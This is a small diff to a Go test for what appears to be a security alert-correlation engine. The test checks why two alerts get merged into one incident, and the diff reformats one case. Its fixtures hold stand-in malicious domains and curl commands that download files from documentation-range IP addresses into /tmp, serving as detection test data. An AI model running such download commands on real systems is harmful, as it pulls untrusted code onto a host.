@@ -64,8 +64,10 @@ func TestReasonsOfForeignAlerts(t *testing.T) {
 		"domain":  {`"entities":[{"type":"domain","value":"x.evil.example"}]`, `"entities":[{"type":"domain","value":"y.evil.example"}]`, "domain"},
 		"stack":   {`"entities":[{"type":"stack","value":"s1"}]`, `"entities":[{"type":"stack","value":"s1"}]`, "call_stack"},
 		"flow":    {`"entities":[{"type":"file","value":"h1:/opt/x","inode":"h1/1:1/5/0","role":"written"}]`, `"entities":[{"type":"file","value":"h1:/opt/x","inode":"h1/1:1/5/0","role":"image"}]`, "file_flow"},
-		"two weak": {`"entities":[{"type":"ip","value":"198.51.100.4","role":"source"},{"type":"command","value":"curl http://203.0.113.9/a -o /tmp/a"}]`,
-			`"entities":[{"type":"ip","value":"198.51.100.4","role":"source"},{"type":"command","value":"curl http://203.0.113.77/b -o /tmp/b"}]`, "command_template+source"},
+		"two weak": {
+			`"entities":[{"type":"ip","value":"198.51.100.4","role":"source"},{"type":"command","value":"curl http://203.0.113.9/a -o /tmp/a"}]`,
+			`"entities":[{"type":"ip","value":"198.51.100.4","role":"source"},{"type":"command","value":"curl http://203.0.113.77/b -o /tmp/b"}]`, "command_template+source",
+		},
 	} {
 		lines, _ := merge(t, nil, line("a", "h1", 1, c.a)+line("b", "h1", 30, c.b))
 		if lines[0].Incident != lines[1].Incident || len(lines[1].Reasons) != 1 || lines[1].Reasons[0].Type != c.reason || lines[1].Reasons[0].With != "a" {
